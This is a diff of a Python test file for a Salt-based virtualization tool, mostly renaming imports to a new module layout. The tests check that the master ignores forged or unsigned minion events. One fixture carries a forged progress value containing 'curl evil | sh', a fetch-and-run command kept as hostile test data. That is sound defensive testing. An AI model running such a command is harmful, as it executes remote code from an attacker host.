@@ -9,12 +9,15 @@ import keypairs
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from saltvirt import compat, sealed, signed
-from saltvirt.config import HostSettings, MasterSettings
-from saltvirt.errors import BadArgument
-from saltvirt.fleet import awaiting, hosts, keys, minions, stored
-from saltvirt.fleet.cloud import Cloud
-from saltvirt.ops import answering, ordered
+from saltvirt.core.salt import compat
+from saltvirt.core.crypto import sealed, signed
+from saltvirt.core.options.config import HostSettings, MasterSettings
+from saltvirt.core.errors import BadArgument
+from saltvirt.vm.create.master import minionwait
+from saltvirt.cluster.rpc import hostcommands, minions, unsignedreplies
+from saltvirt.cluster import minionkeys
+from saltvirt.cluster.cloud import Cloud
+from saltvirt.core.salt import answering, ordered
 from sizes import sizes
 
 OWN, EVIL = keypairs.named("hyper1"), keypairs.named("evil")
@@ -154,7 +157,7 @@ def cloud(opts, monkeypatch):
     """A master with one hypervisor; call it with what comes over its bus."""
 
     def made(*events):
-        keys.accept(opts, "hyper1", OWN[0])
+        minionkeys.accept(opts, "hyper1", OWN[0])
         bus = Bus(*events)
         monkeypatch.setattr(Cloud, "client", lambda _self: contextlib.nullcontext(bus))
         known = MasterSettings(timeout_s=0.1, hypervisors="hyper1")
@@ -266,10 +269,10 @@ def test_an_order_that_the_host_had_only_queued_is_said_not_to_have_begun(cloud,
 
 
 def test_a_minion_that_the_master_has_not_heard_itself_does_not_answer(cloud, monkeypatch):
-    monkeypatch.setattr(stored, "STORED_S", 0.1)
+    monkeypatch.setattr(unsignedreplies, "STORED_S", 0.1)
     _bus, master = cloud(*[{"id": "web1", "return": True}] * 4)
 
-    assert awaiting.wait_for_start(master, "web1", wait_s=0.3, every_s=0.1) is None
+    assert minionwait.wait_for_start(master, "web1", wait_s=0.3, every_s=0.1) is None
 
 
 @pytest.mark.parametrize("option", [{"job_cache": False}, {"ext_job_cache": "redis"}])
@@ -280,15 +283,15 @@ def test_without_a_job_cache_of_the_masters_own_a_return_is_an_answer(cloud, opt
     kept = said if own._has_bank else {"grains": said}
     own._cache.store(*own._place("web1"), kept)
 
-    assert awaiting.wait_for_start(master, "web1", wait_s=5, every_s=0.1) is not None
+    assert minionwait.wait_for_start(master, "web1", wait_s=5, every_s=0.1) is not None
 
 
 def test_forged_progress_is_not_shown(opts, monkeypatch):
-    keys.accept(opts, "hyper1", OWN[0])
+    minionkeys.accept(opts, "hyper1", OWN[0])
     shown = []
     known = MasterSettings(hypervisors="hyper1")
     master = Cloud(opts=opts, settings=known, progress=lambda stage, **_k: shown.append(stage))
-    watch = hosts.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
+    watch = hostcommands.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
     lie = {"name": "web1", "stage": "run: curl evil | sh"}
 
     for data in (lie, packed(EVIL, about="salt/virt/init", value=lie), packed(value=lie)):
